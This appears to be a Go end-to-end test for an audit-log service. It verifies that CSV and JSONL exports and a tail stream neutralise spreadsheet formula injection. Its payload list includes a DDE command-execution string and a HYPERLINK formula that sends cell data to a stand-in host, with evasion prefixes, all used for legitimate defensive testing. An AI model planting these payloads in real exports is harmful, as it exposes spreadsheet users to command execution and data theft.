package e2e

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"time"
	"unicode"

	"github.com/caddy-audit-log/caddy-audit-log/storage"
)

// formulaPayloads are texts that a spreadsheet must not compute.
func formulaPayloads() (list []string) {
	for _, lead := range []string{"", " ", "\"", "'", "\t", "\r", "\n", "\ufeff", "\u00a0", "\"'  "} {
		for _, rest := range []string{"=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=HYPERLINK(\"http://evil.test?x=\"&A1,\"x\")", "＝1+1;\"\n=2\""} {
			list = append(list, lead+rest)
		}
	}
	return list
}

// inSheet says whether a spreadsheet may take a cell for a formula: it looks behind
// white space and quotes, and an apostrophe in front makes it a text.
func inSheet(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool {
		return r == '"' || r == '\ufeff' || unicode.IsSpace(r) && !strings.ContainsRune("\t\r\n", r)
	})
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝")
}

// fromCell takes away the apostrophe that an export has put before a formula.
func fromCell(cell string) string {
	rest, quoted := strings.CutPrefix(cell, "'")
	if quoted && inSheet(strings.TrimLeft(rest, "'\" \u00a0\ufeff")) {
		return rest
	}
	return cell
}

// plain is what becomes of a text on its way through the log and a reader of CSV, which
// takes a line break of Windows for one of Unix.
func plain(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\x00", "\ufffd"), "\r\n", "\n")
}

// exported reads the log as each format, and returns how many cells are active, and how
// many rows or payloads are lost.
func (g *injection) exported() (cells, active, lost int) {
	g.t.Helper()
	rows, err := csv.NewReader(strings.NewReader(g.download("csv"))).ReadAll()
	if err != nil {
		g.t.Fatal(err)
	}
	found := map[int]bool{}
	for _, row := range rows {
		cells += len(row)
		for _, cell := range row {
			if inSheet(cell) {
				active++
				g.t.Errorf("an active cell: %q", cell)
			}
		}
		g.sameRow(found, fromCell(row[3]), row[len(row)-1])
	}
	total := g.total()
	if len(rows) != total+1 {
		lost++
		g.t.Errorf("%d rows of CSV for %d entries", len(rows)-1, total)
	}
	inLines := map[int]bool{}
	n := 0
	for lines := bufio.NewScanner(strings.NewReader(g.download("jsonl"))); lines.Scan(); n++ {
		var e struct {
			Action   string
			Metadata json.RawMessage
		}
		if err := json.Unmarshal(lines.Bytes(), &e); err != nil || inTerminal(lines.Text()) {
			lost++
			g.t.Errorf("a line that is none: %v, %q", err, lines.Text())
		}
		g.sameRow(inLines, e.Action, string(e.Metadata))
	}
	if n != total {
		lost++
		g.t.Errorf("%d lines for %d entries", n, total)
	}
	for i := range g.payloads {
		if !found[i] || !inLines[i] {
			lost++
			g.t.Errorf("%q is not in the exports as it was", g.payloads[i])
		}
	}
	return cells, active, lost
}

// sameRow notes whose payload a row has, as it went in.
func (g *injection) sameRow(found map[int]bool, action, metadata string) {
	var m struct {
		N       *int
		Payload string
	}
	if err := json.Unmarshal([]byte(metadata), &m); err != nil || m.N == nil {
		return // not an insert
	}
	want := g.payloads[*m.N]
	found[*m.N] = plain(action) == plain(storage.Clean(strings.ReplaceAll(want, "\x00", "\ufffd"), storage.MaxAction)) && plain(m.Payload) == plain(want)
}

// download is an export of everything, to an administrator.
func (g *injection) download(format string) string {
	g.t.Helper()
	g.readers++
	status, body := once(g.port, raw("GET", "/api/auth/audit-log/export?scope=all&format="+format, "reader", g.head(200_000+g.readers, fmt.Sprint("reader-x", g.readers)), ""))
	if status != 200 {
		g.t.Fatalf("%s: %d %s", format, status, body)
	}
	return string(body)
}

// total is how many entries there are.
func (g *injection) total() int {
	var page struct{ Total int }
	if err := json.Unmarshal(g.get(300_000, "list?limit=1&scope=all"), &page); err != nil {
		g.t.Fatal(err)
	}
	return page.Total
}

// streamed follows the log from its beginning: no payload makes an event, or a line, of
// its own.
func (g *injection) streamed() (events, forged int) {
	g.t.Helper()
	since := url.QueryEscape(storage.EncodeCursor(storage.TimeKey(time.Now().Add(-time.Hour))))
	o := tail(g.t, g.port, "/api/auth/audit-log/tail?scope=all", g.head(400_000, "reader-tail")+"Last-Event-ID: "+since+"\r\n")
	defer func() { _ = o.Close() }()
	want := g.total()
	o.until(g.t, func(e tailEvent) bool {
		if e.name != "entry" || !json.Valid([]byte(e.data)) || inTerminal(e.data) || bytes.ContainsAny([]byte(e.data), "<>") {
			forged++
			g.t.Errorf("a forged event: %+v", e)
		}
		events++
		return events >= want
	})
	return events, forged
}
